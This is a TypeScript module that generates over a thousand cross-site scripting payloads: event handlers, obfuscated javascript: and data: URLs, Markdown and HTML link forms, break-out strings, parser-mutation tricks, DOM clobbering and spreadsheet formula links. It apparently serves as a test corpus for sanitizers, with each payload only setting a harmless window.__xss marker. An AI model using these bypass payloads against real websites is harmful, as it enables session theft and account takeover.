/** What every payload tries to do. */
const RUN = 'window.__xss=1';

const EVENTS = 'onerror onload onclick onmouseover onfocus ontoggle onbegin onanimationstart'.split(
  ' ',
);
const TAGS =
  'img svg body iframe video audio input details math object embed form marquee select a div isindex style link'.split(
    ' ',
  );
/** Elements whose content other rules read than those of HTML, or none. */
const RAW = 'template noscript style textarea title xmp noembed noframes iframe script'.split(' ');

/** A script's address, in the ways that browsers or filters have read it. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#9;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A&#x61&#x76&#x61script:${RUN}`,
  `java%0ascript:${RUN}`,
  `javascript%3A${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\u0000script:${RUN}`,
  `\u202Ejavascript:${RUN}`,
  `javascript://example.com/%0a${RUN}`,
  `http:javascript:${RUN}`,
  `https://example.com/"onmouseover="${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload="${RUN}"/>`,
  `blob:https://example.com/${RUN}`,
  `view-source:javascript:${RUN}`,
  `//example.com/${RUN}`,
];

/** Where Markdown, and HTML, take an address. */
const LINKS: ((address: string) => string)[] = [
  (to) => `[가](${to})`,
  (to) => `[가](<${to}>)`,
  (to) => `[가](${to} "${RUN}")`,
  (to) => `![가](${to})`,
  (to) => `[![가](${to})](${to})`,
  (to) => `<${to}>`,
  (to) => `[가][나]\n\n[나]: ${to}`,
  (to) => `[나]\n\n[나]: <${to}> 'a'`,
  (to) => `**${to}**`,
  (to) => `<a href="${to}">가</a>`,
  (to) => `<a href='${to}' target=_blank>가</a>`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<form action="${to}"><button formaction="${to}">가</button></form>`,
  (to) => `<svg><a xlink:href="${to}"><text>가</text></a></svg>`,
  (to) => `<math><mi xlink:href="${to}">가</mi></math>`,
  (to) => `<base href="${to}//">`,
  (to) => `<meta http-equiv="refresh" content="0;url=${to}">`,
  (to) => `<object data="${to}"></object><embed src="${to}">`,
  (to) => `<img srcset="${to} 1x, ${to} 2x" src="${to}">`,
  (to) => `<p style="background:url('${to}')">가</p>`,
  (to) => `<style>@import '${to}';</style>`,
];

const SCRIPT = `<script>${RUN}</script>`;
const IMAGE = `<img src=x onerror=${RUN}>`;

/** Ways out of what text stands in. */
const BREAK_OUTS = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '`>',
  '-->',
  '--!>',
  ']]>',
  '?>',
  '*/',
  '");',
  '</p>',
  '</code></pre>',
  '</blockquote>',
  '\u2028',
  '\u0000',
  '\\"',
  '%22%3E',
  '&quot;&gt;',
];

/** Markdown and markup around something evil. */
const FRAMES: ((evil: string) => string)[] = [
  (evil) => evil,
  (evil) => `\`${evil}\``,
  (evil) => `\`\`\`${evil}\n${evil}\n\`\`\``,
  (evil) => `\`\`\`html\n</code></pre>${evil}\n\`\`\``,
  (evil) => `~~~js "${evil}"\n${evil}`,
  (evil) => `> - 1. ${evil}`,
  (evil) => `# ${evil}\n${evil}\n===`,
  (evil) => `|a|\n|-|\n|${evil}|`,
  (evil) => `[^1]\n\n[^1]: ${evil}`,
  (evil) => `[${evil}](https://example.com/ "${evil}")`,
  (evil) => `![${evil}](https://example.com/)`,
  (evil) => `<!--${evil}-->${evil}`,
  (evil) => `<!--><${evil}-->`,
  (evil) => `<![CDATA[${evil}]]>`,
  (evil) => `<?xml ${evil}?>`,
  (evil) => `<!DOCTYPE x [<!ENTITY a "${evil}">]>&a;`,
  (evil) => `\u202E${evil}\u2066`,
  (evil) => `{${evil}} {{${evil}}} \${${evil}} $$${evil}$$`,
  (evil) => `</script>${evil}`,
  (evil) => `{"a":"</script>${evil}"}`,
];

/** Trees that parsers make anew when they read them twice. */
const MUTATING = [
  (evil: string) => `<svg></p><style><a id="</style>${evil}">`,
  (evil: string) => `<math><mtext><table><mglyph><style><!--</style>${evil}`,
  (evil: string) => `<form><math><mtext></form><form><mglyph><style></math>${evil}`,
  (evil: string) => `<svg><foreignObject><noscript><p title="</noscript>${evil}">`,
  (evil: string) => `<math><annotation-xml encoding="text/html">${evil}</annotation-xml></math>`,
  (evil: string) => `<select><template><style><!--</style><a rel="--></style></template>${evil}">`,
  (evil: string) => `<svg><desc><![CDATA[</desc>${evil}]]></svg>`,
];

/** What `String.replace` takes for parts of the text around, where words of readers are put into a page. */
const PATTERNS = ['$`', "$'", '$&', '$1', '$<a>'];

const NAMES = 'cookie body forms getElementById __proto__ constructor attributes'.split(' ');

/** Over a thousand texts, all different, that set `window.__xss` where they are taken for more than text. */
export function xssPayloads(): string[] {
  const handlers = TAGS.flatMap((tag) =>
    EVENTS.map((event) => `<${tag} src=x ${event}="${RUN}" autofocus open>`),
  );
  const odd = EVENTS.flatMap((event) => [`<svg/${event}=${RUN}//`, `<IMG\n${event}\n=\n${RUN}\n>`]);
  const links = ADDRESSES.flatMap((address) => LINKS.map((link) => link(address)));
  const evils = [SCRIPT, IMAGE, `<svg><script>${RUN}</script></svg>`, `＜script＞${RUN}`];
  const outs = BREAK_OUTS.flatMap((out) => [`${out}${SCRIPT}`, `${out} onfocus=${RUN} a=${out}`]);
  const framed = [...evils, ...outs].flatMap((evil) => FRAMES.map((frame) => frame(evil)));
  const raw = RAW.flatMap((tag) => evils.map((evil) => `<${tag}><p title="</${tag}>${evil}">`));
  const mutating = MUTATING.flatMap((frame) => evils.map(frame));
  const clobbering = NAMES.map((name) => `<form id=${name}><img name=${name} onerror=${RUN} src>`);
  const formulas = [...'=+-@\t\r'].map((sign) => `${sign}HYPERLINK("javascript:${RUN}","가")`);
  const patterns = PATTERNS.map((part) => `${part} onfocus=${RUN} autofocus tabindex=1 a=`);
  const all = [handlers, odd, links, framed, raw, mutating, clobbering, formulas, patterns].flat();
  return [...new Set(all)];
}
